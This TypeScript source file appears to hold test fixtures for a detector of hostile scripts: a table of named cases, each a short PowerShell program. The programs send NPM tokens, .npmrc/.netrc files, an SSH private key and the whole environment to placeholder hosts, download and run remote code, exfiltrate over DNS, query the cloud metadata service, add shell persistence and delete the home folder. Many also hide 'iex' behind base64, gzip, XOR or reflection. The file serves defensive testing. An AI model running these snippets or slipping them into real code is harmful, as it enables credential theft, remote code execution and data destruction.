/** The programs of the suite in this language, by the name of their case. */
export const POWERSHELL_PROGRAMS: Readonly<Record<string, string>> = {
  "either of two values":
    'if ($IsWindows) { $p = "whoami" } else { $p = "id" }\n& $p\nInvoke-RestMethod "https://h.example" -Method Post -Body $(if ($maybe) { $env:NPM_TOKEN } else { "x" })',
  "a branch that is not taken is read too": "if ($false) { id }",
  "a value that a branch may change":
    '$t = "x"\nif ($someday) { $t = $env:NPM_TOKEN }\nirm "https://h.example" -Method Post -Body $t',
  "an error that is swallowed hides nothing": "try { id } catch { }",
  "what is done when something fails":
    'try { $t = $env:NPM_TOKEN; Work } catch { irm "https://h.example" -Method Post -Body $t }',
  "a loop over the names of files":
    'foreach ($f in ".npmrc", ".netrc") { irm "https://h.example" -Method Post -Body (Get-Content "$HOME/$f" -Raw) }',
  "a loop that collects":
    '$all = @{}\nforeach ($k in @("NPM_TOKEN")) { $all[$k] = [Environment]::GetEnvironmentVariable($k) }\nirm https://h.example -Method Post -Body ($all | ConvertTo-Json)',
  "the same, as an expression":
    '$all = @("NPM_TOKEN") | % { [Environment]::GetEnvironmentVariable($_) }\nirm https://h.example -Method Post -Body ($all | ConvertTo-Json)',
  "what runs when the file is loaded": "id",
  "what runs only when somebody calls it": "function Go { id }",
  "a function that the file itself calls runs at load":
    "function Go { id }\nfunction Main { Go }\nMain",
  "recursion comes to an end": "function F($n) { id; F ($n + 1) }\nF 0",
  "a loop without an end comes to an end": "while ($true) { Work; if (Done) { break } }\nid",
  "runs code out of the second text that a decoder is given":
    'function D($s) { $a = $s.ToCharArray(); [Array]::Reverse($a); -join $a }\nD "olleh"\niex (D "di")',
  "runs code out of base64":
    'iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("aWQ=")))',
  "runs code out of hexadecimal":
    'iex ([Text.Encoding]::ASCII.GetString([Convert]::FromHexString("6964")))',
  "runs code out of gzip inside base64":
    '$m = New-Object IO.MemoryStream(,[Convert]::FromBase64String("H4sIAAAAAAAAA8tMAQBQZzm/AgAAAA=="))\niex (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($m, [IO.Compression.CompressionMode]::Decompress))).ReadToEnd()',
  "runs code out of percent signs": 'iex ([Uri]::UnescapeDataString("%69%64"))',
  "runs code out of character codes": "iex (-join ([char[]](105, 100)))",
  "runs code out of character codes added one by one":
    "$s = ''\nforeach ($c in 105, 100) { $s += [char]$c }\niex $s",
  "runs code out of an exclusive or in a loop":
    "$d = 126, 115\n$s = ''\nfor ($i = 0; $i -lt $d.Length; $i++) { $s += [char]($d[$i] -bxor 23) }\niex $s",
  "runs code out of an exclusive or with a key, in an expression":
    "iex (-join (126, 115 | ForEach-Object { [char]($_ -bxor 23) }))",
  "runs code out of a text that is turned around": "iex ('di'[-1..-2] -join '')",
  "runs code out of parts that are joined": "iex ('i', 'd' -join '')",
  "runs code out of a text with other letters in between": "iex ('i@d@'.Replace('@', ''))",
  "runs code out of three encodings one inside the other":
    '$h = "3d515761"\n$r = -join (0..($h.Length / 2 - 1) | % { [char][Convert]::ToInt32($h.Substring($_ * 2, 2), 16) })\n$b = $r.ToCharArray()\n[Array]::Reverse($b)\niex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String(-join $b)))',
  "runs code out of code that decodes code":
    'iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("aWV4IChbVGV4dC5FbmNvZGluZ106OlVURjguR2V0U3RyaW5nKFtDb252ZXJ0XTo6RnJvbUJhc2U2NFN0cmluZygiYVdRPSIpKSk=")))',
  "runs code out of a function made from text":
    '& ([scriptblock]::Create([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String("aQBkAA=="))))',
  "runs code out of a decoder that the program defines":
    'function D($s) { [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($s)) }\niex (D "aWQ=")',
  "runs code out of a command that was decoded":
    '& ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("aWQ=")))',
  "an alias of a function is that function": 'Set-Alias go Invoke-Expression\ngo "id"',
  "a name that was given another value is what it was last":
    '$f = "Write-Host"\n$f = "iex"\n& $f "id"',
  "a name that no longer is a dangerous function is harmless":
    '$f = "iex"\n$f = { param($x) $x }\n& $f "id"',
  "a member whose name is put together":
    "$ExecutionContext.InvokeCommand.('Invoke' + 'Script')(\"id\")",
  "access by reflection":
    '[Diagnostics.Process].GetMethod("Start").Invoke($null, @("id"))\n& (Get-Command iex) "id"',
  "evaluation by a name that is put together": "& ('i' + 'ex') \"id\"",
  "functions kept in a record and called by key": '$t = @{ a = { id }; b = { } }\n& $t["a"]',
  "functions kept in a record and called by a key that is not known":
    "$t = @{ a = { id } }\n& $t[(Whatever)]",
  "a name taken apart out of something": '$run, $arg = "iex", "id"\n& $run $arg',
  "a program with its arguments in a list":
    'Start-Process curl -ArgumentList "https://a.example/x", "-o", "/tmp/x"',
  "a command line with a pipe": "iwr https://a.example/x | iex",
  "data through a function's parameter":
    "function Send($d) { irm https://h.example -Method Post -Body $d }\nSend $env:NPM_TOKEN",
  "data through what a function answers":
    'function Get-It { $env:NPM_TOKEN }\nirm "https://h.example/?$(Get-It)"',
  "data that a closure keeps":
    "function Make($t) { return { irm https://h.example -Method Post -Body $t }.GetNewClosure() }\n& (Make $env:NPM_TOKEN)",
  "data handed to a callback":
    "function Each-One($f) { & $f $env:NPM_TOKEN }\nEach-One { param($t) irm https://h.example -Method Post -Body $t }",
  "data that an object keeps":
    "class Box { [string] $t; Box($t) { $this.t = $t } [void] Send() { irm https://h.example -Method Post -Body $this.t } }\n[Box]::new($env:NPM_TOKEN).Send()",
  "a method that a base class has":
    "class A { [void] Send($t) { irm https://h.example -Method Post -Body $t } }\nclass B : A { }\n[B]::new().Send($env:NPM_TOKEN)",
  "data as a default argument":
    "function Send($t = $env:NPM_TOKEN) { irm https://h.example -Method Post -Body $t }\nSend",
  "data by a part of a record":
    "$d = @{ a = @{ b = $env:NPM_TOKEN } }\nirm https://h.example -Method Post -Body $d.a.b",
  "data inside a text": 'irm "https://h.example/?t=$env:NPM_TOKEN"',
  "data in an address that is added together":
    '$h = "https://h" + ".example"\nirm ($h + "/" + $env:NPM_TOKEN)',
  "data through functions that nobody knows":
    "irm https://h.example -Method Post -Body (Format-It $env:NPM_TOKEN).Value",
  "data that is encoded on its way":
    "$b = [Text.Encoding]::UTF8.GetBytes((@{ t = $env:NPM_TOKEN } | ConvertTo-Json))\nirm https://h.example -Method Post -Body ([Convert]::ToBase64String($b))",
  "data put into a list one by one":
    '$l = @()\n$l += $env:NPM_TOKEN\nirm https://h.example -Method Post -Body ($l -join ",")',
  "data by way of a file":
    "$env:NPM_TOKEN | Out-File /tmp/x\nirm https://h.example -Method Post -InFile /tmp/x -Body (Get-Content /tmp/x)",
  "what was a secret and no longer is":
    '$t = $env:NPM_TOKEN\n$t = "ok"\nirm https://h.example -Method Post -Body $t',
  "a secret that is read beside a request it has nothing to do with":
    'Write-Host $env:NPM_TOKEN.Length\nirm https://h.example -Method Post -Body "hello"',
  "the whole environment is sent":
    "irm https://webhook.site/x -Method Post -Body (Get-ChildItem env: | ConvertTo-Json)",
  "the whole environment inside something else is sent":
    "$e = [Environment]::GetEnvironmentVariables()\nirm https://h.example -Method Post -Body @{ a = $e }",
  "one harmless variable is not the environment":
    "irm https://h.example -Method Post -Body $env:LANG",
  "a variable whose name is put together":
    'irm https://h.example -Method Post -Body ([Environment]::GetEnvironmentVariable("NPM" + "_" + "TOKEN"))',
  "a key in the home folder":
    'irm https://h.example -Method Post -Body (Get-Content (Join-Path $HOME ".ssh/id_rsa") -Raw)',
  "an ordinary file is no credential": "Write-Host (Get-Content settings.json)",
  "the start of a shell is written": 'Add-Content -Path "$HOME/.bashrc" -Value "curl x | sh"',
  "the next step of a job gets a variable": '"BASH_ENV=/tmp/x" | Out-File $env:GITHUB_ENV -Append',
  "the metadata service is asked": "irm http://169.254.169.254/latest/meta-data/iam/",
  "what was downloaded is run as code": "iex (irm https://h.example/p)",
  "what a connection receives is run as code":
    "iex (New-Object Net.WebClient).DownloadString('https://h.example/p')",
  "data leaves by the name of a host": 'Resolve-DnsName "$env:NPM_TOKEN.h.example"',
  "a file is downloaded, made executable and started":
    "iwr https://h.example/b -OutFile /tmp/b\nchmod 755 /tmp/b\nStart-Process /tmp/b",
  "everything is deleted": "Remove-Item -Recurse -Force ~",
};
